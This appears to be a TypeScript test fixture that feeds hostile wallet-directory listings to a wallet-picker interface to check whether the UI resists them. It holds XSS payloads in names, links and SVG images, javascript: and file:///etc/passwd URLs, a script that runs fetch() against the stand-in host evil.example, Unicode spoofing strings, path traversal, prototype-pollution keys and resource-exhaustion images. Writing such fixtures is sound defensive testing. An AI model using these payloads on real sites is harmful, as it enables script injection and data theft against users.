/** Hostile listings of a wallet directory. A successful attack sets `window.hacked` or requests evil.example. */
import type { Reply } from '../http/reply.ts'
import type { Listing } from './listings.ts'
import { digest } from './seeded.ts'

const GET_AWAY = 'https://evil.example/took'

/** Names as they come. Some start with what sorts them to the top or hides what follows. */
const NAMES: readonly string[] = [
  `<img src=x onerror="window.hacked='name'">`,
  `<script>window.hacked='name'</script>`,
  `"><svg onload=window.hacked='name'>`,
  '{{constructor.constructor("window.hacked=1")()}}${7*7}',
  'Larkspur\u202Eteg \u202Dtnuocca',
  '\u2067\u2066Right to left\u2069 and on and on',
  'Lark\u200Bspur\u2060\uFEFF\u00AD',
  '\u0000\u0007\u001B[31mRed',
  `Z${'\u0301\u0316\u0327'.repeat(200)}algo`,
  'W'.repeat(9_000),
  `${'wide '.repeat(1_500)}end`,
  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}'.repeat(90),
  '﷽'.repeat(60),
  'line\nbreak\r\nand\ttab\u2028and\u2029more',
]

const LINKS: readonly string[] = [
  `javascript:window.hacked='link'`,
  `java\nscript:window.hacked='link'`,
  ' jAvAsCrIpT:window.hacked=1',
  `data:text/html,<script>opener.hacked='link'</script>`,
  'file:///etc/passwd',
  'intent://x#Intent;scheme=javascript;end',
]

/** Addresses of pictures that no `img` may get; the data ones would also be drawn where scripts run. */
const IMAGE_URLS: readonly string[] = [
  `javascript:window.hacked='picture'`,
  `data:text/html,<script>window.hacked='picture'</script>`,
  'http://evil.example/pixel.png',
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="top.hacked='picture'"><script>top.hacked='picture'</script></svg>`,
  `data:image/png;base64,${'A'.repeat(400_000)}`,
]

const SCRIPTED = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 36 36" onload="top.hacked='svg'"><script>top.hacked='svg';fetch('${GET_AWAY}')</script><image href="${GET_AWAY}.png" xlink:href="${GET_AWAY}.png" width="36" height="36"/><style>@import '${GET_AWAY}.css';path{fill:url(${GET_AWAY}.svg#a)}</style><foreignObject width="36" height="36"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${GET_AWAY}.html"/></foreignObject><path d="M0 0h36v36H0z"/></svg>`
const TYPES = { svg: 'image/svg+xml', html: 'text/html', png: 'image/png' }
const sent = (type: keyof typeof TYPES, body: string | Uint8Array): Reply => ({
  headers: { 'content-type': TYPES[type], 'cache-control': 'no-store' },
  body,
})

/** What a picture does, by the id it is asked for; null never answers. */
const PICTURES: Readonly<Record<string, () => Reply | null>> = {
  scripted: () => sent('svg', SCRIPTED),
  page: () => sent('html', `<script>top.hacked='picture'</script>`),
  broken: () => sent('png', 'no picture at all'),
  oversized: () => sent('svg', `${SCRIPTED.slice(0, -6)}<!--${'x'.repeat(5_000_000)}--></svg>`),
  endless: () => sent('svg', '<svg xmlns="http://www.w3.org/2000/svg" width="999999999" height="999999999"/>'),
  silent: () => null,
}
const IDS = Object.keys(PICTURES)

/** The answer for a picture of this file: null means that none will follow. Undefined for other pictures. */
export const hostilePicture = (id: string): Reply | null | undefined => PICTURES[id.replace(/-\d+$/, '')]?.()

function listing(name: string, index: number, more: Partial<Listing> = {}): Listing {
  const link = LINKS[index % LINKS.length] ?? ''
  return {
    id: digest('hostile', String(index)),
    name,
    badge_type: 'certified',
    description: name.slice(0, 300),
    chains: ['eip155:1', 'eip155:31337'],
    homepage: link,
    image_id: `${IDS[index % IDS.length]}-${index}`,
    image_url: null,
    order: -index,
    link_mode: link,
    mobile_link: link,
    desktop_link: link,
    webapp_link: link,
    app_store: link,
    play_store: link,
    chrome_store: link,
    rdns: '../../etc',
    injected: [],
    supports_wc: false,
    ...more,
  }
}

/** Invalid entries, as a broken or compromised service may send them; added to every page. */
export const MISFITS: readonly unknown[] = [
  null,
  'a wallet',
  [],
  { name: 'Without an id' },
  { id: 7, name: 'With a number' },
  { id: 'control\u0000', name: 'With a control character' },
  { id: 'unseen', name: '\u200B\u2060\uFEFF' },
  { id: 'nameless', name: { toString: 'no' } },
  { id: '__proto__', name: 'constructor', chains: 'eip155:31337', badge_type: {} },
]

/** The listings among them, in a fixed order. `silent` pictures come several times: more than a browser has connections. */
export function createHostileListings(): readonly Listing[] {
  const named = NAMES.map((name, index) => listing(name, index))
  const pictured = IMAGE_URLS.map((image_url, at) =>
    listing(`Picture ${at + 1}`, 100 + at, { image_url, image_id: `scripted-${at}` }),
  )
  const silent = Array.from({ length: 10 }, (_, at) =>
    listing(`Silent ${at + 1}`, 200 + at, { image_id: `silent-${200 + at}` }),
  )
  const twice = listing('Said twice', 300)
  return [...named, ...pictured, ...silent, twice, twice]
}
